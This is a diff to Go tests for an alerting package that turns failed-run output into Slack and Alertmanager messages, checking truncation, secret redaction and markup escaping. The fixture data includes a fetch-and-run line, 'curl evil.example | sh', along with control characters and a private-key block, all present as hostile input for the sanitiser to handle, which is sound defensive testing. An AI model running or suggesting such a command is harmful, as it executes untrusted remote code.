@@ -26,12 +26,17 @@ func hostile() map[string]any {
 	}
 }
 
+func lastOf(data any) []string {
+	lines, _ := notify.OutputOf(data)
+	return lines
+}
+
 // failedOnce is the message about the failed run that printed what hostile returns.
 func failedOnce() notify.AlertMessage {
 	m := some
 	m.Rule, m.ID, m.Subject, m.Peels, m.Names = "default", "default/shop-report", "shop-report", 1, []target.PeelID{"web-01"}
 	m.Text, m.Troubles = "exit status 3; it has failed since it began", []verdict.Kind{verdict.Failed}
-	m.Output = notify.Output{Peel: "web-01", Ended: at.Add(-2), Lines: notify.OutputOf(hostile())}
+	m.Output = notify.Output{Peel: "web-01", Ended: at.Add(-2), Lines: lastOf(hostile())}
 	return m
 }
 
@@ -41,22 +46,22 @@ func TestTheEndOfAnOutputIsBoundedAndShownAsText(t *testing.T) {
 		"db_password=(hidden)", `\x07red tab`, "next: curl evil.example | sh", `\u202eright to left` + "\uFFFD",
 		strings.Repeat("x", 197) + "…",
 	}
-	if got := notify.OutputOf(hostile()); !slices.Equal(got, want) {
+	if got := lastOf(hostile()); !slices.Equal(got, want) {
 		t.Errorf("%q\nwant %q", got, want)
 	}
 	for _, data := range []any{nil, true, "", "\n \n", map[string]any{"changes": "none"}, []any{"a"}} {
-		if got := notify.OutputOf(data); len(got) != 0 {
+		if got := lastOf(data); len(got) != 0 {
 			t.Errorf("%v: %q", data, got)
 		}
 	}
-	if got := notify.OutputOf(strings.Repeat("early\n", 64<<10) + "last\n"); len(got) != 10 || got[9] != "last" {
+	if got := lastOf(strings.Repeat("early\n", 64<<10) + "last\n"); len(got) != 10 || got[9] != "last" {
 		t.Errorf("the end of a long output: %q", got)
 	}
-	if got := notify.OutputOf("one\ntwo"); !slices.Equal(got, []string{"one", "two"}) {
+	if got := lastOf("one\ntwo"); !slices.Equal(got, []string{"one", "two"}) {
 		t.Errorf("%q", got)
 	}
 	key := "-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n", 40)
-	if got := notify.OutputOf(map[string]any{"stdout": "a\n" + key, "stderr": ""}); !slices.Equal(got, []string{"a", "(hidden)"}) {
+	if got := lastOf(map[string]any{"stdout": "a\n" + key, "stderr": ""}); !slices.Equal(got, []string{"a", "(hidden)"}) {
 		t.Errorf("a key without an end: %q", got)
 	}
 }
@@ -93,6 +98,35 @@ func TestTheMailOfAFailedRunHasItsOutputAndACommand(t *testing.T) {
 	got := strings.ReplaceAll(string(text), "\r\n", "\n")
 	if want := strings.Replace(mailOfAFailure, "XXX", strings.Repeat("x", 197), 1); got != want {
 		t.Errorf("the mail is\n%s\nwant\n%s", got, want)
+	}
+}
+
+// A peel keeps the first bytes of a long output, so its last lines are not the last ones that the command printed.
+func TestAMessageSaysThatTheOutputWasCut(t *testing.T) {
+	for mark, want := range map[string]string{
+		"stdout_truncated": "the end of what was kept of its output, which was longer, on web-01, at ",
+		"stderr_truncated": "the end of what was kept of its output, which was longer, on web-01, at ",
+		"digest":           "the end of its output on web-01, at ",
+	} {
+		m := failedOnce()
+		m.Output.Lines, m.Output.IsCut = notify.OutputOf(map[string]any{"stdout": "a line", "stderr": "", mark: true})
+		s := receiverServe(t)
+		if send(t, made(t, notify.ReceiverOptions{Provider: notify.ReceiverSlack, URL: s.URL}), m); !strings.Contains(s.bodies[0], want) {
+			t.Errorf("%s: no %q in %s", mark, want, s.bodies[0])
+		}
+	}
+}
+
+// What Alertmanager gets it passes on to chats as it is.
+func TestNothingIsMarkupBehindAlertmanager(t *testing.T) {
+	s := receiverServe(t)
+	send(t, made(t, notify.ReceiverOptions{Provider: notify.ReceiverAlertmanager, URL: s.URL}), failedOnce())
+	var alerts []struct{ Annotations map[string]string }
+	if err := json.Unmarshal([]byte(s.bodies[0]), &alerts); err != nil {
+		t.Fatal(err)
+	}
+	if got := alerts[0].Annotations["description"]; strings.Contains(got, "<") || !strings.Contains(got, "‹!channel>") {
+		t.Errorf("the description is %s", got)
 	}
 }
 
